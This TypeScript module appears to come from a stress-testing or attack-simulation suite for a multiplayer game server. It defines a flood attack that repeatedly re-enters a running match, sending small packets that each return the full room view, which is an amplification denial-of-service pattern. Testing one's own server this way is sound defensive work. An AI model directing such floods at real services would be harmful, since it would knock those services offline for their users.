import { enterText } from '../../lib/seat';
import { openRoom } from '../attacker-room';
import { flood } from '../flood';
import type { Attack } from '../target';

const FROM = '127.1.3.1';

/** Entering one's own running match again and again: few bytes in, the whole view out. */
export const entering: Attack = async (target) => {
  const room = await openRoom(target, FROM, 'started');
  if (room === null) return;
  const packets = [enterText(room), JSON.stringify(['enter', { code: room.code, token: null }])];
  await flood(target, { from: [FROM], connections: 3, perSecond: 19, namespace: '/rooms', packets });
};
